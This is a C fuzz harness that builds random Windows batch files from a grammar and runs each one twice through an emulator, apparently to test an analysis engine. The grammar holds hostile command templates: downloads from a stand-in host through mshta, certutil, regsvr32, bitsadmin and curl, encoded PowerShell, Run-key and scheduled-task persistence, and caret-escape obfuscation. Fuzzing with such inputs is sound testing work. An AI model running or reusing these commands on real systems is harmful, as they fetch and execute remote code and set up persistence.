/* Batch files, made from the bytes by a grammar: each ends within its budgets, and does the same when it is run
 * again. */
#include "emulate/generated.h"

#define STEPS 20000

static const char *const programs[] = {
    "%S", "@echo off\n%S%S%S%S", "@echo off\nsetlocal enabledelayedexpansion\n%S%S%S%S%S%S%Q%Q", "%S%S%S%S%S%S%S%S%Q%Q%Q", NULL};
static const char *const procedures[] = {"", ":l\n%S%Sgoto :eof\n", ":m\nshift\n%S%Sexit /b %N\n", ":n\n%Sgoto l\n", NULL};
static const char *const statements[] = {"%C\n",
                                         "%C & %C\n",
                                         "%C && %C || %C\n",
                                         "(%C)\n",
                                         "(\n%S%S)\n",
                                         "if %K (\n%S) else (\n%S)\n",
                                         "if %K %C\n",
                                         "if not %K %C else %C\n",
                                         "for %%a in (%W %W %W) do %C\n",
                                         "for /l %%i in (%N,%N,%N) do (%C)\n",
                                         "for /f \"%O\" %%a in ('%C') do %C\n",
                                         "for /f \"%O\" %%a in (%W) do (%C & %C)\n",
                                         "for /f %%a in (\"%W\") do %C\n",
                                         "goto l\n",
                                         "call :l %W %W\n",
                                         "call :m %W\n",
                                         "rem %W\n",
                                         ":l\n",
                                         "%C | %C\n",
                                         "%C > C:\\t\\%W\n",
                                         "%C >> C:\\t\\a 2>&1\n",
                                         "%C < C:\\t\\a\n",
                                         "@%C\n",
                                         "for %%a in (m s h t a) do (set w=!w!%%a)\n",
                                         NULL};
static const char *const commands[] = {"echo a",
                                       "echo %W",
                                       "echo %W %W",
                                       "set %V=%W",
                                       "set %V=%W%W",
                                       "set /a %V=%A",
                                       "set /a %V+=%A,%V=%A",
                                       "call set %V=%W",
                                       "call echo %W",
                                       "set \"%V=%W\"",
                                       "type C:\\t\\%W",
                                       "copy /y C:\\t\\a C:\\t\\%W",
                                       "del C:\\t\\%W",
                                       "cmd /c \"%C\"",
                                       "cmd /v:on /c \"set x=%W&&echo !x!\"",
                                       "start \"\" %W %W",
                                       "powershell -c \"%W\"",
                                       "powershell -enc %W",
                                       "mshta http://a.example/%W",
                                       "certutil -decode C:\\t\\a C:\\t\\b",
                                       "certutil -urlcache -f http://a.example/%W C:\\t\\b",
                                       "findstr /r \"%W\" C:\\t\\a",
                                       "find \"%W\" C:\\t\\a",
                                       "regsvr32 /s /u /i:http://a.example/x %W",
                                       "rundll32 %W,f",
                                       "wscript C:\\t\\%W",
                                       "ping -n %N localhost",
                                       "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d %W",
                                       "schtasks /create /tn a /tr %W",
                                       "wmic process call create \"%W\"",
                                       "exit /b",
                                       "exit",
                                       "md C:\\t\\%W",
                                       "cd %W",
                                       "pushd C:\\t",
                                       "popd",
                                       "ren C:\\t\\a %W",
                                       "curl -o C:\\t\\c http://a.example/%W",
                                       "bitsadmin /transfer a http://a.example/x C:\\t\\d",
                                       "%W %W",
                                       "^s^e^t ^x=%W",
                                       "timeout /t %N",
                                       "cls",
                                       "ver",
                                       "title %W",
                                       "shift",
                                       NULL};
static const char *const words[] = {"a",
                                    "%V",
                                    "%%x%%",
                                    "%%y:~%N,%N%%",
                                    "%%y:~%N%%",
                                    "%%x:a=%W%%",
                                    "%%x:*b=%W%%",
                                    "!x!",
                                    "!y:~%N,%N!",
                                    "!z:a=b!",
                                    "%%~nx1",
                                    "%%1",
                                    "%%*",
                                    "%%a",
                                    "%%~dpa",
                                    "\"%W %W\"",
                                    "a^b",
                                    "^^",
                                    "x%N",
                                    "a.exe",
                                    "ab%W",
                                    "%%COMSPEC%%",
                                    "%%PUBLIC:~-3%%",
                                    "%%RANDOM%%",
                                    "%%CD%%",
                                    "%%~f0",
                                    "a,b;c",
                                    "^&",
                                    "^\"",
                                    "ÄÖあ",
                                    "%%DATE%%",
                                    "TVqQAAMA",
                                    "http://a.example/%W",
                                    "!x:~%N!%W",
                                    NULL};
static const char *const names[] = {"x", "y", "z", "w", "v1", NULL};
static const char *const conditions[] = {"1==1",          "%W==%W",    "/i %W==%W", "exist C:\\t\\%W", "defined %V",
                                         "errorlevel %N", "%W gtr %W", "%N leq %N", "not %W==%W",      NULL};
static const char *const options[] = {
    "tokens=1", "tokens=1,2* delims=,; ", "skip=1 eol=#", "usebackq tokens=*", "delims=", "tokens=2-3 delims=b", NULL};
static const char *const arithmetic[] = {"1",     "%N",       "%V",     "(%A)",   "%A+%A", "%A*%A", "%A-%A",
                                         "%A/%A", "%A%%%%%A", "%A<<%N", "%A>>%N", "%A&%A", "%A|%A", "%A^^%A",
                                         "-%A",   "~%A",      "!%A",    "%V=%A",  NULL};
static const char *const numbers[] = {"1", "0", "2", "3", "-1", "-2", "5", "10", "0x1F", "017", "2147483647", "99", NULL};
static const grammar_rule rules[] = {{'Z', programs},   {'Q', procedures}, {'S', statements}, {'C', commands},
                                     {'W', words},      {'V', names},      {'K', conditions}, {'O', options},
                                     {'A', arithmetic}, {'N', numbers},    {0, NULL}};
static const grammar cmd = {rules, 10, 4000};

/* The last byte says whether it is one line, or a batch file. */
static sk_bytes run(sk_arena *a, sk_bytes program, sk_bytes choices, bool *ret_timed)
{
    (void)ret_timed;
    make_paper *p = program_paper(STEPS);
    make_paper_carrier(p, "C:\\t\\form.lnk", program);
    if (choices.len && choices.p[choices.len - 1] % 4 == 0)
        make_paper_command(p, program);
    else
        make_paper_batch(p, program);
    return program_told_on(p, a);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    program_twice(&cmd, sk_bytes_of(data, size), 64u << 20, run);
    return 0;
}

void sk_fuzz_seeds(void (*take)(void *self, sk_bytes seed), void *self) { grammar_seeds(3, take, self); }
